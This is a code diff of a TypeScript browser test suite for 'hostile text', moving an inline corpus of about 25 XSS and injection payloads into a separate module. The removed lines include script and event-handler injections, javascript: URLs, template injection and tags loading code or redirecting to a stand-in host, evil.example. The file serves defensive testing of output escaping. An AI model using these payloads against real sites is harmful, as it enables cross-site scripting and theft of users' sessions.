@@ -6,37 +6,10 @@ import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { secretHash } from '../../shared/secret.ts';
 import { rows } from '../../shared/table.ts';
 import { addSeconds } from '../../shared/time.ts';
+import { corpus } from './corpus.ts';
 import { caseId, everyPage, everyPortalPage, seer } from './every-page.ts';
 import { seedEverything } from './everything.ts';
 import { clean, hasChromium, openStage, type Stage } from './stage.ts';
-
-const corpus = [
-  '<script>pwned()</script>',
-  '"><script src="//evil.example/x.js"></script>',
-  '"><img src=x onerror=pwned()>',
-  '<svg/onload=pwned()>',
-  '<svg><script href="data:text/javascript,pwned()"/></svg>',
-  "' onmouseover='pwned()' autofocus onfocus='pwned()",
-  '" autofocus onfocus="pwned()" x="',
-  '</textarea><script>pwned()</script>',
-  '</title></style><style>@import "//evil.example/x.css";*{display:none}</style>',
-  '<div style="position:fixed;inset:0;background:url(//evil.example/x)">',
-  'javascript:pwned()',
-  'JaVaScRiPt&colon;pwned()',
-  'data:text/html,<script>pwned()</script>',
-  '<a href="javascript:pwned()">x</a>',
-  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
-  '<object data="data:text/html,x"></object><embed src="//evil.example/x">',
-  '<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example/">',
-  '<form action="//evil.example/"><input name=x><button>go',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
-  '{{constructor.constructor("pwned()")()}}#{pwned()}<%= pwned() %>',
-  '\u202Egnp.exe\u2066\u2069\u200B\uFEFF',
-  '\uFF1Cscript\uFF1Epwned()\uFF1C/script\uFF1E\u2028\u2029',
-  '&#60;script&#62;pwned()&#60;/script&#62;',
-  '<!--<script>',
-  ']]><script>pwned()</script>',
-] as const;
 
 describe.skipIf(!hasChromium('hostile text in a browser'))('hostile text', { timeout: 300_000 }, () => {
   let stage: Stage;
